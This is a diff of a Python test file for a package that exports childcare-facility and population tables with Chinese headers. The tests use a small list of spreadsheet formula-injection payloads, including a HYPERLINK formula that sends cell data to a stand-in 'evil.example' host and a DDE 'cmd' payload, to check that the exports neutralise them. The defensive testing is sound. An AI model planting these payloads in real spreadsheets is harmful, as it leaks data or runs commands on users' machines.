@@ -9,18 +9,24 @@ import pandas as pd
 import pytest
 from shapely.geometry import Point
 
+from svcov.config import DemandGroup, FacilityAttribute
 from svcov.errors import OutputError
-from svcov.outputs.tables import label_columns, write_layers, write_table
+from svcov.outputs.tables import config_labels, label_columns, write_layers, write_table
+
+#: Headers of the columns a configuration adds come from it (the type file's attributes, the population groups).
+LABELS = config_labels([FacilityAttribute("has_nursery_class", "flag", "开设托班"),
+                        FacilityAttribute("capacity", "number", "托位数")], [DemandGroup("children_0_3", "0-3 岁人口")])
 
 
 def _frame():
-    return pd.DataFrame({"jiezhen_name": ["岳阳街道", "方松街道"], "pop_0_3": [1234.5678, 2.0],
+    return pd.DataFrame({"jiezhen_name": ["岳阳街道", "方松街道"], "children_0_3": [1234.5678, 2.0],
                          "has_nursery_class": pd.array([True, pd.NA], dtype="boolean"),
-                         "capacity_places": pd.array([30, pd.NA], dtype="Int64")})
+                         "capacity": pd.array([30, pd.NA], dtype="Int64")})
 
 
 def test_csv_is_utf8_with_bom_and_chinese_headers(tmp_path):
-    written = write_table(_frame(), tmp_path / "t", labels={"pop_0_3": "0-3岁人口(估算)"}, float_digits=1)
+    written = write_table(_frame(), tmp_path / "t", labels={**LABELS, "children_0_3": "0-3岁人口(估算)"},
+                          float_digits=1)
     assert [p.name for p in written] == ["t.csv", "t.xlsx"]
     raw = (tmp_path / "t.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
@@ -32,7 +38,8 @@ def test_csv_is_utf8_with_bom_and_chinese_headers(tmp_path):
 def test_xlsx_has_headers_and_notes_sheet(tmp_path):
     from openpyxl import load_workbook
 
-    write_table(_frame(), tmp_path / "t", sheet_name="汇总", notes=["注: 人口为估算。"], formats=("xlsx",))
+    write_table(_frame(), tmp_path / "t", labels=LABELS, sheet_name="汇总", notes=["注: 人口为估算。"],
+                formats=("xlsx",))
     book = load_workbook(tmp_path / "t.xlsx")
     assert book.sheetnames == ["汇总", "说明"]
     assert [c.value for c in book["汇总"][1]] == ["街镇", "0-3岁人口", "开设托班", "托位数"]
@@ -62,15 +69,15 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=cmd|' /C calc
 
 
 def _hostile():
-    return pd.DataFrame({"name": FORMULAS + ["-20", "岳阳街道"], "pop_0_3": [1.5, -2.0, 3, 4, 5, 6, 7, 8, 9],
-                         "capacity_places": pd.array([1, 2, 3, 4, 5, 6, 7, 8, pd.NA], dtype="Int64")})
+    return pd.DataFrame({"name": FORMULAS + ["-20", "岳阳街道"], "children_0_3": [1.5, -2.0, 3, 4, 5, 6, 7, 8, 9],
+                         "capacity": pd.array([1, 2, 3, 4, 5, 6, 7, 8, pd.NA], dtype="Int64")})
 
 
 def test_xlsx_stores_text_as_text_and_numbers_as_numbers(tmp_path):
     from openpyxl import load_workbook
 
-    write_table(_hostile().rename(columns={"pop_0_3": "=1+2"}), tmp_path / "t", notes=["=HYPERLINK(\"x\")"],
-                formats=("xlsx",))
+    write_table(_hostile().rename(columns={"children_0_3": "=1+2"}), tmp_path / "t", labels=LABELS,
+                notes=["=HYPERLINK(\"x\")"], formats=("xlsx",))
     book = load_workbook(tmp_path / "t.xlsx")
     sheet = book.worksheets[0]
     header = [(c.value, c.data_type) for c in sheet[1]]
@@ -87,7 +94,7 @@ def test_xlsx_stores_text_as_text_and_numbers_as_numbers(tmp_path):
 def test_csv_neutralises_a_leading_formula_character(tmp_path):
     import csv
 
-    write_table(_hostile(), tmp_path / "t", formats=("csv",))
+    write_table(_hostile(), tmp_path / "t", labels=LABELS, formats=("csv",))
     with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as handle:
         rows = list(csv.reader(handle))
     assert rows[0] == ["名称", "0-3岁人口", "托位数"]
